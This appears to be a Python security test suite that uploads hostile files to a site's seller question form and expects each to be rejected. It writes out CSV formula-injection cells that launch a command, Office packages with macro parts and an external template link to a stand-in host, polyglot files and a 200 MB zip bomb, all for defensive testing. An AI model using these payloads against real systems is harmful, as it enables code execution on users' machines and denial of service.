"""Attacks by files: formulas, programs, links to elsewhere, two formats in one, packages that swell."""

import io
import zipfile

from tests.security.attacks.registry import Outcome, attack, held_for_all, held_if
from tests.security.attacks.target import Target, form_token

OFFICE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
PART = '<Override PartName="/a.bin" ContentType="%s"/>'
OUTSIDE = '<R><Relationship Id="a" Type="urn:%s" Target="https://evil.example/a" TargetMode="External"/></R>'
PDF = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"

ORDINARY = "ordinary.csv"
FOUND = 302


def package(*types: str, **parts: bytes | str) -> bytes:
    """Return a Word document with further types of parts, and further parts."""
    with zipfile.ZipFile(packed := io.BytesIO(), "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", f"<Types>{PART % (OFFICE + '.main+xml')}{''.join(types)}</Types>")
        for name, content in parts.items():
            archive.writestr(name, content)
    return packed.getvalue()


def answers(target: Target, files: dict[str, bytes]) -> dict[str, object]:
    """Attach each file to a question of the seller's business; return the statuses.

    An ordinary table goes first. If the site does not take it, the other answers would prove nothing.
    """
    client, business = target.signed_in("seller"), target.business("seller")
    page = f"/home/{business}/questions/"
    form = {"subject": "Labels", "text": "Which label?", "language": "en"}
    seen: dict[str, object] = {}
    for name, content in {ORDINARY: b"sku,origin\nA1,CN\n", **files}.items():
        token = form_token(client.get(page).text)
        answer = client.post(page, data=form | {"csrfmiddlewaretoken": token}, files={"files": (name, content)})
        seen[name] = answer.status_code
    if seen.pop(ORDINARY) != FOUND:
        seen[ORDINARY] = "not taken"
    return seen


@attack("A seller attaches a table with a formula that the officer's spreadsheet would run")
def formulas(target: Target) -> Outcome:
    call = "=cmd|'/C calc'!A0"
    cells = (call, f"foo;{call}", f'"foo\n{call}"', f"foo\t{call}", "+A(1)")
    tables = {f"{number}.csv": f"sku,origin\nA1,CN\nA2,{cell}\n".encode() for number, cell in enumerate(cells)}
    return held_for_all(answers(target, tables), lambda status: status == 422)


@attack("A seller attaches an Office file with macros, objects, or a template that it fetches from elsewhere")
def active_documents(target: Target) -> Outcome:
    documents = {
        "macros.docx": package(PART % "application/vnd.ms-office.vbaProject"),
        "entity.docx": package(PART % "application/vnd.ms-office.vba&#80;roject"),
        "ole.docx": package(a=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504),
        "template.docx": package(**{"word/_rels/settings.xml.rels": OUTSIDE % "/attachedTemplate"}),
        "link.docx": package(**{"xl/_rels/book.xml.rels": OUTSIDE % "/externalLinkPath"}),
        "inner.docx": package(a=package(PART % "application/vnd.ms-office.vbaProject")),
    }
    return held_for_all(answers(target, documents), lambda status: status == 422)


@attack("A seller attaches files that are two formats at once")
def two_formats(target: Target) -> Outcome:
    files = {
        "a.pdf": PDF[:-6] + package() + b"\n%%EOF\n",
        "a.jpg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9" + package(),
        "a.docx": package() + b"MZ" + b"\0" * 100,
        "a.csv": b"sku,origin\n%PDF-1.7,b\nA1,CN\n",
    }
    return held_for_all(answers(target, files), lambda status: status == 422)


@attack("A seller attaches a package that swells to two hundred megabytes, and others wait")
def swelling_package(target: Target) -> Outcome:
    swollen = package(**{f"p{number}": b"a" * 20_000_000 for number in range(11)})
    seen = answers(target, {"a.docx": swollen})
    alive = target.visitor().get("/healthz").status_code
    return held_if(seen == {"a.docx": 422} and alive == 200, f"{seen}, /healthz {alive}")
